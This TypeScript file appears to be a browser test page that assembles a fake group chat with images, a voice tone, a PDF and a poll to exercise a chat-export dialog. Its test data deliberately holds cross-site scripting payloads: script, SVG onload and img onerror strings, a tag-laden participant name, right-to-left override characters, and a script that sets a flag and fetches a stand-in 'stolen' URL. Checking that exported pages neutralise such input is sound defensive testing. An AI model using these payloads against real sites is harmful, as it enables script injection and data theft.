/** A page with the dialog and a chat made by hand: for the journey in a real browser. */

import type { OpenedFile } from "../../../src/engine/protocol.ts"
import type { Attachment, ChatRecord } from "../../../src/reader/conversation.ts"
import "../../../src/ui/out/chat-out.ts"
import type { ChatOut } from "../../../src/ui/out/chat-out.ts"
import { outSourceOf, type ReadableChat } from "../../../src/ui/out/of-chat.ts"
import "../../../src/ui/styles/site-page.css"

const people = ["Anna", "Ben", "<b onclick=alert(1)>Çiğdem</b>", "\u202eليلى"]

function text(words: string): Blob {
    return new Blob([words])
}

async function picture(hue: number): Promise<Blob> {
    const canvas = new OffscreenCanvas(900, 600)
    const pen = canvas.getContext("2d")
    if (pen === null) throw new Error("no canvas")
    const sky = pen.createLinearGradient(0, 0, 0, 600)
    sky.addColorStop(0, `hsl(${hue} 60% 72%)`)
    sky.addColorStop(1, `hsl(${hue + 60} 55% 48%)`)
    pen.fillStyle = sky
    pen.fillRect(0, 0, 900, 600)
    pen.fillStyle = `hsl(${hue + 110} 40% 30%)`
    pen.beginPath()
    pen.moveTo(0, 600)
    pen.lineTo(280, 250)
    pen.lineTo(500, 480)
    pen.lineTo(700, 320)
    pen.lineTo(900, 600)
    pen.fill()
    return await canvas.convertToBlob({ type: "image/png" })
}

/** Two seconds of a tone. */
function tone(): Blob {
    const [rate, length] = [8000, 16000]
    const bytes = new DataView(new ArrayBuffer(44 + length))
    const word = (at: number, letters: string): void => {
        for (const [place, letter] of [...letters].entries()) bytes.setUint8(at + place, letter.charCodeAt(0))
    }
    word(0, "RIFF")
    bytes.setUint32(4, 36 + length, true)
    word(8, "WAVEfmt ")
    bytes.setUint32(16, 16, true)
    bytes.setUint16(20, 1, true)
    bytes.setUint16(22, 1, true)
    bytes.setUint32(24, rate, true)
    bytes.setUint32(28, rate, true)
    bytes.setUint16(32, 1, true)
    bytes.setUint16(34, 8, true)
    word(36, "data")
    bytes.setUint32(40, length, true)
    for (let at = 0; at < length; at++) bytes.setUint8(44 + at, 128 + 60 * Math.sin(at / 3))
    return new Blob([bytes], { type: "audio/wav" })
}

const script = "<script>parent.ranScript = ranScript = true; fetch('https://example.org/stolen')</script>"

const files: readonly { readonly name: string; readonly blob: Blob | null }[] = [
    { name: "IMG-20260301-WA0001.png", blob: await picture(190) },
    { name: "IMG-20260302-WA0002.png", blob: await picture(20) },
    { name: "PTT-20260302-WA0003.wav", blob: tone() },
    { name: "Einladung.html", blob: new Blob([script], { type: "text/html" }) },
    {
        name: "Bild.svg",
        blob: new Blob([`<svg xmlns="http://www.w3.org/2000/svg" onload="ranScript=true"/>`], {
            type: "image/svg+xml",
        }),
    },
    { name: "kaputt.jpg", blob: null },
    { name: "Rechnung.pdf", blob: new Blob([text("%PDF-1.4 nothing")], { type: "application/pdf" }) },
]

type Line = readonly [time: string, sender: number | null, text: string, more?: Partial<ChatRecord>]

const file = (index: number, kind: Attachment["kind"]): { readonly attachment: Attachment } => ({
    attachment: { name: files[index]?.name ?? "", kind, file: index },
})

const lines: readonly Line[] = [
    ["2026-03-01T09:12:00", null, "Messages and calls are end-to-end encrypted.", { kind: "system" }],
    ["2026-03-01T09:12:31", 1, "Good morning! Are we still going to the lake today? ☀️"],
    ["2026-03-01T09:12:58", 1, "I could bring the *big* basket and the map from https://example.org/lake?a=1&b=2"],
    ["2026-03-01T09:14:05", 0, "Of course. Train at ten, platform 3."],
    ["2026-03-01T09:14:40", 0, "🎉"],
    [
        "2026-03-01T12:47:11",
        0,
        "This is where we are",
        {
            ...file(0, "photo"),
            reactions: [
                { emoji: "❤️", person: 1 },
                { emoji: "❤️", person: 2 },
                { emoji: "👍", person: null },
            ],
        },
    ],
    [
        "2026-03-01T12:49:02",
        2,
        "Beautiful! Keep some cake for me",
        { quote: { sender: 0, text: "This is where we are", id: null } },
    ],
    ["2026-03-01T12:50:00", 3, "متى تعودون؟ (\u202eevil\u202c) سأنتظركم"],
    ["2026-03-01T20:02:10", 1, "", file(2, "voice")],
    ["2026-03-02T08:00:00", 2, script],
    [
        "2026-03-02T08:01:12",
        2,
        '</style></title><img src=x onerror="ranScript=true">\nSecond line',
        { edited: true, forwarded: true },
    ],
    ["2026-03-02T08:05:00", 1, "", file(3, "document")],
    ["2026-03-02T08:05:20", 1, "", file(4, "photo")],
    ["2026-03-02T08:06:00", 1, "", file(5, "photo")],
    ["2026-03-02T08:06:30", 0, "", { attachment: { name: "IMG-20260301-WA0099.jpg", kind: "photo", file: null } }],
    ["2026-03-02T08:07:00", 0, "", { kind: "omitted", omitted: "video" }],
    ["2026-03-02T08:08:00", 0, "The bill for the boat", file(6, "document")],
    [
        "2026-03-02T19:30:00",
        2,
        "When next?",
        {
            kind: "poll",
            poll: {
                question: "When next?",
                options: [
                    { text: "Saturday", votes: 3 },
                    { text: "Sunday", votes: 1 },
                    { text: "<i>Never</i>", votes: 0 },
                ],
            },
        },
    ],
    ["2026-03-02T19:31:00", 1, "This message was deleted.", { kind: "deleted" }],
    ["2026-03-02T19:32:00", 3, "", { kind: "view-once" }],
    ["2026-03-02T19:40:00", 0, "", file(1, "photo")],
]

const days = 50
const perDay = 12
const written: readonly Line[] = Array.from({ length: days * perDay }, (_, place) => {
    const day = new Date(
        Date.UTC(2026, 3, 1 + Math.floor(place / perDay), 9 + (place % perDay), (place * 7) % 60, (place * 13) % 60),
    )
    const words = [
        "Did you hear from the others yet?",
        "Yes, they will come on Sunday. I said that we would cook, and that nobody has to bring anything but hunger.",
        "Wonderful.",
        "The tickets are on the kitchen table. Do not forget them this time; last time I ran back twice in the rain.",
    ]
    return [day.toISOString().slice(0, 19), place % 5 < 3 ? 0 : 1, words[place % words.length] ?? ""]
})

const records: readonly ChatRecord[] = [...lines, ...written].map(([time, sender, said, more], index) => ({
    index,
    kind: "message",
    sender,
    time,
    text: said,
    edited: false,
    attachment: null,
    raw: { offset: 0, length: 0 },
    ...more,
}))

const chat: ReadableChat = {
    chat: {
        title: "Tour",
        self: "Anna",
        people,
        records: records.length,
        files: files.map(({ blob }, index) => ({ index, size: blob?.size ?? 5000 })),
    },
    records: async (from, to) => records.slice(from, to),
    async openFile(index): Promise<OpenedFile> {
        const blob = files[index]?.blob ?? null
        return blob === null ? { kind: "refused", code: "object-differs" } : { kind: "opened", blob }
    },
}

const language = document.documentElement.lang === "de" ? "de" : "en"

const source = outSourceOf(chat, {
    title: "Lake & mountains </style>",
    first: records[0]?.time ?? null,
    last: records.at(-1)?.time ?? null,
    sources: [
        {
            name: "WhatsApp Chat - Lake.zip",
            sha256: "6dcd4ce23d88e2ee9568ba546c007c63d9131c1b2f1c0c8a5a1c0d2b3e4f5061",
            added: "2026-06-02T17:03:00Z",
        },
        { name: "WhatsApp Chat - Lake (1).zip", sha256: null, added: "2026-07-14T09:10:00Z" },
    ],
    sha256Of: (index) => (index === 2 ? "0f".repeat(32) : null),
    setting: () => ({ language, made: "2026-11-30T13:05:00Z", zone: "Europe/Berlin", program: "Backupweb 0.1.0" }),
})

const dialog = document.createElement("bw-chat-out") as ChatOut
document.querySelector("main")?.append(dialog)
await dialog.open(source)
